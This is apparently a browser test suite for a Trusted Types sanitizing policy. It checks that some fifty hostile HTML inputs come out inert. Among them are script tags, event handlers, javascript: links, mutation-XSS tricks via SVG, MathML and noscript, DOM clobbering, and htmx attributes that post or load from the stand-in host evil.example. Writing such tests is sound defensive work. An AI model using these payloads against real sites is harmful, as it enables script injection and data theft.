// The Trusted Types policy in a real browser: hostile markup comes out as nothing that acts.
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type BrowserWorld, openBrowserWorld } from '../support/browser-world.ts'
import { hasRun, openPolicyPage } from '../support/policy-page.ts'

let world: BrowserWorld
let on: Awaited<ReturnType<typeof openPolicyPage>>

beforeAll(async () => {
  world = await openBrowserWorld()
  on = await openPolicyPage(world)
})

afterAll(() => world.close())

const hostile: [what: string, html: string, comesOutAs: string[]][] = [
  ['a script', '<p>a<script>window.pwned=1</script></p>', ['p']],
  ['a script from elsewhere', '<script src="https://evil.example/x.js"></script>', []],
  ['a handler', '<img src="x" onerror="window.pwned=1">', ['img src=x']],
  ['a handler in odd case', '<p OnMouseOver="window.pwned=1">a</p>', ['p']],
  [
    'a handler of a popover',
    '<div popover onbeforetoggle="window.pwned=1">a</div>',
    ['div popover='],
  ],
  ['a script address', '<a href="javascript:window.pwned=1">a</a>', ['a']],
  ['a broken script address', '<a href="java\tscript:window.pwned=1">a</a>', ['a']],
  ['a hidden script address', '<a href="&#1;javascript:window.pwned=1">a</a>', ['a']],
  ['a page as an address', '<a href="data:text/html,<script>1</script>">a</a>', ['a']],
  ['a frame', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>', []],
  ['an object', '<object data="/x.swf"></object><embed src="/x.swf">', []],
  [
    'another base',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
    [],
  ],
  [
    'a style sheet',
    '<style>body{display:none}</style><link rel="stylesheet" href="//e.example">',
    [],
  ],
  ['a style', '<p style="position:fixed;inset:0">a</p>', ['p']],
  [
    'a form to elsewhere',
    '<form action="https://evil.example/"><button>a</button></form>',
    ['form', 'button'],
  ],
  ['a form to elsewhere, shortly', '<form action="//evil.example/"></form>', ['form']],
  ['a button to elsewhere', '<button formaction="https://evil.example/">a</button>', ['button']],
  ['htmx running script', '<p hx-on:click="window.pwned=1" hx-on="click: pwned=1">a</p>', ['p']],
  ['htmx running script at once', '<p hx-on::load="window.pwned=1">a</p>', ['p']],
  ['htmx by its second name', '<p data-hx-post="/logout" data-hx-trigger="load">a</p>', ['p']],
  ['htmx handlers by their second name', '<p data-hx-on:click="window.pwned=1">a</p>', ['p']],
  ['htmx values that are script', `<p hx-vals="js:{a:window.pwned=1}">a</p>`, ['p']],
  ['htmx headers that are script', `<p hx-headers='js:{"a":1}'>a</p>`, ['p']],
  ['htmx asking first by script', '<p hx-confirm="js:window.pwned=1">a</p>', ['p']],
  ['htmx with settings of its own', `<p hx-config='{"mode":"cors"}'>a</p>`, ['p']],
  [
    'htmx for all below',
    '<div hx-post:inherited="/logout"><a href="/">a</a></div>',
    ['div', 'a href=/'],
  ],
  ['htmx posting to elsewhere', '<p hx-post="https://evil.example/">a</p>', ['p']],
  ['htmx asking elsewhere', '<p hx-get="//evil.example/">a</p>', ['p']],
  [
    'searches told to elsewhere',
    '<p data-tell="https://evil.example/" data-searched="a: b">a</p>',
    ['p data-searched=a: b'],
  ],
  [
    'what is told while one reads, to elsewhere',
    '<p data-read="https://evil.example/" data-looking="//evil.example/">a</p>',
    ['p'],
  ],
  ['htmx posting to a script', '<p hx-post="javascript:window.pwned=1">a</p>', ['p']],
  [
    'a trigger that is script',
    '<p hx-post="/a" hx-trigger="load[pwned=1]">a</p>',
    ['p hx-post=/a'],
  ],
  ['a part for elsewhere', '<hx-partial hx-target="body"><p>a</p></hx-partial>', ['p']],
  ['a template', '<template><img src=x onerror="window.pwned=1"></template>', []],
  [
    'a template within',
    '<div><template><template><p onclick="pwned=1"></template></template></div>',
    ['div'],
  ],
  [
    'a shadow',
    '<div><template shadowrootmode="open"><img src=x onerror="pwned=1"></template></div>',
    ['div'],
  ],
  ['an element of its own', '<x-a onclick="pwned=1">a</x-a>', []],
  [
    'SVG with script',
    '<svg><script>window.pwned=1</script><g onload="pwned=1"/></svg>',
    ['svg', 'g'],
  ],
  [
    'SVG that animates an address',
    '<svg><a><animate attributeName="href" values="javascript:pwned=1"/></a></svg>',
    ['svg', 'a'],
  ],
  [
    'a drawing from elsewhere',
    '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    ['svg', 'use'],
  ],
  [
    'a drawing from a page',
    '<svg><use xlink:href="data:image/svg+xml,<svg id=a/>#a"/></svg>',
    ['svg', 'use'],
  ],
  ['a drawing from below our assets', '<svg><use href="/assets/../t/1#a"/></svg>', ['svg', 'use']],
  [
    'mutation by style in SVG',
    '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
    ['svg', 'p', 'img src=1'],
  ],
  [
    'mutation by MathML',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;">',
    [],
  ],
  [
    'mutation by forms',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>',
    ['form'],
  ],
  [
    'mutation by noscript',
    '<noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript>',
    [],
  ],
  [
    'mutation by a text area',
    '<textarea><p title="</textarea><img src=x onerror=pwned=1>">',
    ['textarea', 'img src=x'],
  ],
  [
    'mutation by an end of template',
    '</template><img src=x onerror="pwned=1"><template>',
    ['img src=x'],
  ],
  ['a clobbering name', '<form><input name="attributes"><input name="parentElement"></form>', []],
]

test.each(hostile)('%s does not act', async (_what, html, comesOutAs) => {
  const { elements } = await on.through(html)

  expect(elements).toEqual(comesOutAs)
  expect(await hasRun(on.page)).toBe(false)
})

const written: [what: string, html: string, comesOutAs: string[]][] = [
  ['words', '<p>a <strong>b</strong></p>', ['p', 'strong']],
  ['a link', '<a href="https://a.example/" rel="ugc">a</a>', ['a href=https://a.example/ rel=ugc']],
  [
    'a request',
    '<a href="/" hx-post="/logout" hx-trigger="load" hx-target="body">a</a>',
    ['a href=/'],
  ],
  ['a part for elsewhere', '<p hx-swap-oob="outerHTML:#site-header">a</p>', ['p']],
  ['an end of ignoring', '<p hx-ignore="false" hx-post="/logout">a</p>', ['p']],
  ['a form', '<form action="/logout" method="post"><button>a</button></form>', []],
  ['a field of another form', '<input form="reply" name="body"><select form="reply"></select>', []],
  ['a picture', '<img src="/logout"><svg><use href="/assets/icons.a.svg#check"/></svg>', []],
  ['a button of ours', '<button formaction="/logout" popovertarget="site-nav">a</button>', []],
  ['a hook of ours', '<p data-composer="/logout" data-format="bold">a</p>', ['p']],
  [
    'a place that is told',
    '<p data-read="/logout" data-looking="/logout" data-key="c">a</p>',
    ['p'],
  ],
  ['a clobbering form', '<form><input name="closest"><input name="parentElement"></form>', []],
]

test.each(written)('in what people wrote, %s is only words', async (_what, html, comesOutAs) => {
  const { elements } = await on.through(`<div class="prose" hx-ignore="">${html}</div>`)

  expect(elements).toEqual(['div class=prose hx-ignore=', ...comesOutAs])
})
